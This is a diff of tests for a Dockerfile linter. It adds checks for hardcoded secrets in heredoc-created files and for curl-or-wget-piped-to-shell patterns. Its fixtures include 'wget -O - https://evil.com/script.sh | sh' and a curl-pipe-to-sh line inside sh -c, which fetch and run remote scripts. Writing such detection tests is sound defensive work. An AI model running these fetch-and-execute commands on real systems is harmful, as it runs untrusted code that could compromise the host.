@@ -175,6 +175,27 @@ describe('DV1001 - Hardcoded secrets', () => {
   });
 });
 
+describe('DV1001 - Secrets in heredoc-created files', () => {
+  it('flags a password in a COPY heredoc config file', () => {
+    const df = 'FROM ubuntu:22.04\nCOPY <<EOF /etc/app.conf\nuser=app\ndb_password=s3cr3t-value\nEOF';
+    const v = lintDockerfile(df).find(x => x.rule === 'DV1001');
+    expect(v).toMatchObject({ line: 4, column: 1 });
+    expect(v?.message).toContain('/etc/app.conf');
+  });
+  it('flags YAML secrets written with cat in RUN', () => {
+    const df = 'FROM ubuntu:22.04\nRUN cat <<EOF > /app/config.yml\ndatabase:\n  password: "hunter2hunter2"\nEOF';
+    expect(lintDockerfile(df).find(x => x.rule === 'DV1001')?.line).toBe(4);
+  });
+  it('does not flag variable references or placeholders', () => {
+    const df = 'FROM ubuntu:22.04\nCOPY <<EOF /etc/app.conf\npassword=${DB_PASSWORD}\napi_key=changeme\nEOF';
+    expect(hasRule(lintDockerfile(df), 'DV1001')).toBe(false);
+  });
+  it('does not scan heredocs that only feed a command', () => {
+    const df = 'FROM python:3.12\nRUN python3 <<EOF\npassword = "s3cr3t-value"\nEOF';
+    expect(hasRule(lintDockerfile(df), 'DV1001')).toBe(false);
+  });
+});
+
 describe('DV1002 - Privileged operations', () => {
   it('flags --privileged', () => {
     expect(hasRule(lintDockerfile('FROM ubuntu:20.04\nRUN --privileged echo hi'), 'DV1002')).toBe(true);
@@ -197,6 +218,12 @@ describe('DV1003 - Unsafe curl pipe', () => {
   it('flags wget | sh', () => {
     expect(hasRule(lintDockerfile('FROM ubuntu:20.04\nRUN wget -O - https://evil.com/script.sh | sh'), 'DV1003')).toBe(true);
   });
+  it('does not flag curl | sh inside a quoted string', () => {
+    expect(hasRule(lintDockerfile('FROM ubuntu:20.04\nRUN echo "install with: curl https://x/install.sh | sh" > /README'), 'DV1003')).toBe(false);
+  });
+  it('flags curl | sh inside sh -c', () => {
+    expect(hasRule(lintDockerfile(`FROM ubuntu:20.04\nRUN sh -c 'curl https://x/install.sh | sh'`), 'DV1003')).toBe(true);
+  });
   it('passes safe curl', () => {
     expect(hasRule(lintDockerfile('FROM ubuntu:20.04\nRUN curl -o /tmp/file.sh https://example.com/file.sh'), 'DV1003')).toBe(false);
   });
@@ -308,6 +335,9 @@ FROM debian:sid-slim
 RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*`;
     expect(hasRule(lintDockerfile(df), 'DV1007')).toBe(false);
   });
+  it('does not flag apt-get install inside a quoted echo argument', () => {
+    expect(hasRule(lintDockerfile('FROM ubuntu:20.04\nRUN echo "apt-get install -y curl" >> /notes.txt'), 'DV1007')).toBe(false);
+  });
 });
 
 describe('DV1008 - COPY . . too broad', () => {